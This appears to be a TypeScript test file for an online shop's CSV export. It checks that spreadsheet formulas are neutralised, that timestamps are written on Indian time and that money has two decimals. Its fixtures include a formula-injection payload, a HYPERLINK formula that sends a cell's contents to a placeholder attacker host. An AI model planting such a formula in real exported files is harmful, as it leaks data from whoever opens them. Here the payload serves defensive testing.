import { csvCell, flattenRecord, recordsToCsv, toCsv } from './csv';

/** Splits CSV text into records of cells, honouring quotes (as a spreadsheet reads it). */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let cells: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') (cell += '"'), i++;
      else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') cells.push(cell), (cell = '');
    else if (c === '\r' && text[i + 1] === '\n') {
      cells.push(cell), records.push(cells), (cells = []), (cell = ''), i++;
    } else cell += c;
  }
  return records;
}

describe('CSV export', () => {
  describe('a cell a spreadsheet would run as a formula', () => {
    it.each(['=HYPERLINK("http://evil.example/?x="&A1,"Click")', '+1+1', '-2+3', '@SUM(A1)', '\t=1', '\r=1'])('is kept as text: %j', (text) => {
      const [[cell]] = parseCsv(`${csvCell(text)}\r\n`);
      expect(cell).toBe(`'${text}`);
    });

    it('leaves ordinary text and numbers as they are (a negative amount stays a number)', () => {
      expect(csvCell('Ragi Millet Cookies')).toBe('Ragi Millet Cookies');
      expect(csvCell(-160)).toBe('-160');
      expect(csvCell(null)).toBe('');
    });
  });

  describe('an instant', () => {
    it("is written on India's clock with its offset, so its date is India's day (18:00 UTC is 23:30 IST, 19:00 UTC on 31 December is the new year)", () => {
      expect(csvCell('2026-11-29T18:00:00.000Z')).toBe('2026-11-29T23:30:00.000+05:30');
      expect(csvCell('2026-12-31T19:00:00Z')).toBe('2027-01-01T00:30:00.000+05:30');
      const [header, row] = parseCsv(recordsToCsv([{ orderNumber: 'BZ-2026-000001', placedAt: '2026-11-29T20:00:00.000Z' }]));
      expect(header).toEqual(['orderNumber', 'placedAt']);
      expect(row).toEqual(['BZ-2026-000001', '2026-11-30T01:30:00.000+05:30']);
      expect(Date.parse(row[1])).toBe(Date.parse('2026-11-29T20:00:00.000Z'));
    });

    it('leaves a calendar day and other text as they are', () => {
      expect(csvCell('2026-11-29')).toBe('2026-11-29');
      expect(csvCell('at 2026-11-29T18:00:00.000Z')).toBe('at 2026-11-29T18:00:00.000Z');
    });
  });

  describe('money', () => {
    it('is written with exactly two decimals, a plain number: no grouping comma, no symbol, a refund never taken for a formula', () => {
      expect(csvCell(13938966.2, true)).toBe('13938966.20');
      expect(csvCell(1219, true)).toBe('1219.00');
      expect(csvCell(0.05, true)).toBe('0.05');
      expect(csvCell(-5, true)).toBe('-5.00');
      expect(csvCell(null, true)).toBe('');
    });

    it('is found by the column\'s last name in records (total, quote.price); a count, a quantity or a flag stays as it is', () => {
      const [header, row] = parseCsv(recordsToCsv([{ id: 'e1', quantity: 5, total: 13938966.2, quote: { price: 2500, quantity: 5 }, available: true, revenue: 0 }]));
      expect(header).toEqual(['id', 'quantity', 'total', 'quote.price', 'quote.quantity', 'available', 'revenue']);
      expect(row).toEqual(['e1', '5', '13938966.20', '2500.00', '5', 'true', '0.00']);
    });

    it('is what a CSV declares when its names are its own (a report\'s open and close)', () => {
      const csv = toCsv(['bucket', 'open', 'changes'], [{ bucket: '2026-11-28', open: 12000.5, changes: 2 }], (column) => column === 'open');
      expect(parseCsv(csv)).toEqual([['bucket', 'open', 'changes'], ['2026-11-28', '12000.50', '2']]);
    });
  });

  it('quotes commas, quotes and line breaks', () => {
    expect(csvCell('Pune, Maharashtra')).toBe('"Pune, Maharashtra"');
    expect(csvCell('say "hello"')).toBe('"say ""hello"""');
    expect(csvCell('line 1\nline 2')).toBe('"line 1\nline 2"');
  });

  describe('records', () => {
    const orders = [
      {
        id: 'o1',
        orderNumber: 'ORD-000001',
        customerName: '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
        shippingAddress: { name: '@attacker', city: 'Pune, MH' },
        items: [
          { productId: 'p1', productName: 'Ragi Millet Cookies', quantity: 2, totalPrice: 320 },
          { productId: 'p2', productName: 'Leather Wallet', quantity: 1, totalPrice: 899 },
        ],
        total: 1219,
        _position: 7,
      },
      { id: 'o2', orderNumber: 'ORD-000002', customerName: 'Meera "M" Iyer', items: [], total: 160, couponCode: 'WELCOME20' },
    ];

    it('are one row each: nested lists in one readable cell, nested objects as their own columns', () => {
      expect(flattenRecord(orders[0])).toEqual({
        id: 'o1',
        orderNumber: 'ORD-000001',
        customerName: orders[0].customerName,
        'shippingAddress.name': '@attacker',
        'shippingAddress.city': 'Pune, MH',
        items: '2 x Ragi Millet Cookies; 1 x Leather Wallet',
        total: 1219,
      });
      const [header, first, second, ...rest] = parseCsv(recordsToCsv(orders));
      expect(rest).toEqual([]);
      expect(header).toEqual(['id', 'orderNumber', 'customerName', 'shippingAddress.name', 'shippingAddress.city', 'items', 'total', 'couponCode']);
      expect(first).toEqual(['o1', 'ORD-000001', `'${orders[0].customerName}`, "'@attacker", 'Pune, MH', '2 x Ragi Millet Cookies; 1 x Leather Wallet', '1219.00', '']);
      expect(second).toEqual(['o2', 'ORD-000002', 'Meera "M" Iyer', '', '', '', '160.00', 'WELCOME20']);
    });

    it('neutralises formulas inside a list cell and in an element without a name', () => {
      const csv = recordsToCsv([{ id: 'x', tags: ['=1+1', 'ok'], parts: [{ vendorId: 'v1', status: 'shipped' }], notes: ['-5'] }]);
      const [, row] = parseCsv(csv);
      expect(row).toEqual(['x', "'=1+1; ok", 'vendorId: v1, status: shipped', "'-5"]);
    });
  });
});
